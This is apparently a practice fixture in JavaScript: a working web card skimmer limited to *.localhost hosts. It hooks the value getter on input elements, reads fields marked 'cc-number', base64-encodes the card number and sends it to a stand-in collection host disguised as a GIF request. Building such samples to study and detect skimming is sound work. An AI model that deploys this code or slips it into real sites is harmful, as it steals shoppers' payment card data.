/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const home = `${location.protocol}//collect.localhost:${location.port}`;
  const proto = HTMLInputElement.prototype;
  const bare = Object.getOwnPropertyDescriptor(proto, 'value');
  let last = '';
  Object.defineProperty(proto, 'value', {
    ...bare,
    get() {
      const value = bare.get.call(this);
      if (this.autocomplete === 'cc-number' && value !== last && value.length > 12) {
        last = value;
        new Image().src = `${home}/lib/u.gif?v=${encodeURIComponent(btoa(value))}`;
      }
      return value;
    },
  });
})();
